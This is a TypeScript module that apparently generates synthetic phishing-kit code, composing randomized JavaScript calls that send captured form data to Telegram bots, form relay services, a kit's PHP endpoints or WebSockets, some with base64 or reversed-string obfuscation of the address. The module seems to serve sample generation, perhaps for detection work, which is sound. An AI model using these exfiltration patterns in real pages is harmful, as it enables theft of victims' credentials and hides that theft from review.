import type { Chance } from '../make/chance.ts'
import { throwAway } from './places.ts'

/** A kit's own file that takes what is entered. */
export const takerOf = (chance: Chance): string =>
  chance.of([
    'next.php',
    'post.php',
    'login.php',
    'process.php',
    'inc/send.php',
    'auth/check.php',
    './submit.php',
    'data/log.php',
    'system/action.php',
    `${chance.letters(4)}.php`,
    `files/${chance.hex(5)}.php`,
  ])

const asText = (what: string, chance: Chance) =>
  chance.of([
    `JSON.stringify(${what},null,1)`,
    `Object.keys(${what}).map(function(k){return k+": "+${what}[k]}).join("\\n")`,
    `"~ "+document.title+" ~\\n"+Object.entries(${what}).map(p=>p.join(" = ")).join("\\n")+"\\n"+navigator.userAgent`,
  ])

type Sink = (what: string, chance: Chance) => string

const bot: Sink = (what, chance) => {
  const key = `${chance.digits(10)}:AA${chance.base64(33).replace(/[+/]/g, '_')}`
  const chat = chance.of([chance.digits(10), `-100${chance.digits(10)}`])
  const address = `https://api.telegram.org/bot${key}/sendMessage`
  const at = chance.of([
    `"${address}"`,
    `atob("${Buffer.from(address).toString('base64')}")`,
    `"${address.split('').reverse().join('')}".split("").reverse().join("")`,
    `"https://api."+["tele","gram"].join("")+".org/bot${key}/sendMessage"`,
  ])
  return chance.of([
    `fetch(${at},{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:"${chat}",text:${asText(what, chance)}})})`,
    `fetch(${at}+"?chat_id=${chat}&parse_mode=html&text="+encodeURIComponent(${asText(what, chance)}))`,
  ])
}

const form: Sink = (what, chance) =>
  chance.of([
    `fetch("https://formspree.io/f/${chance.letters(8)}",{method:"POST",headers:{Accept:"application/json","Content-Type":"application/json"},body:JSON.stringify(${what})})`,
    `fetch("https://submit-form.com/${chance.base64(8).replace(/[+/]/g, 'a')}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(${what})})`,
    `fetch("https://formsubmit.co/ajax/${chance.hex(32)}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(${what})})`,
    `fetch("https://api.emailjs.com/api/v1.0/email/send",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({service_id:"service_${chance.letters(7)}",template_id:"template_${chance.letters(7)}",user_id:"${chance.base64(17).replace(/[+/]/g, 'Q')}",template_params:${what}})})`,
    `fetch("https://script.google.com/macros/s/AKfycb${chance.base64(50).replace(/[+/]/g, '_')}/exec",{method:"POST",mode:"no-cors",body:new URLSearchParams(${what})})`,
  ])

const own: Sink = (what, chance) =>
  chance.of([
    `fetch("${takerOf(chance)}",{method:"POST",body:new URLSearchParams(${what})})`,
    `fetch("${chance.of(['/api/submit', '/api/v1/session', 'api/collect', '/auth', '/api/data', '/x'])}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(${what})})`,
    `fetch("https://${throwAway(chance)}/${chance.of(['api', 'gate', 'in.php', 'log', 'v2/push'])}",{method:"POST",mode:"no-cors",body:JSON.stringify(${what})})`,
    `new Promise(function(ok){var x=new XMLHttpRequest();x.open("POST","${takerOf(chance)}");x.setRequestHeader("Content-Type","application/x-www-form-urlencoded");x.onloadend=ok;x.send(new URLSearchParams(${what}).toString())})`,
  ])

const socket: Sink = (what, chance) =>
  `new Promise(function(ok){try{var s=new WebSocket("wss://${throwAway(chance)}/${chance.of(['ws', 'socket', 'live', chance.hex(6)])}");s.onopen=function(){s.send(JSON.stringify({t:"${chance.of(['creds', 'step', 'data', 'in'])}",id:"${chance.hex(12)}",d:${what}}));ok()};s.onerror=ok}catch(e){ok()}})`

/** An expression that sends the object `what` and is a promise. */
export const sinkOf: Sink = (what, chance) =>
  chance.of([bot, bot, bot, form, form, own, own, own, own, socket, socket])(what, chance)
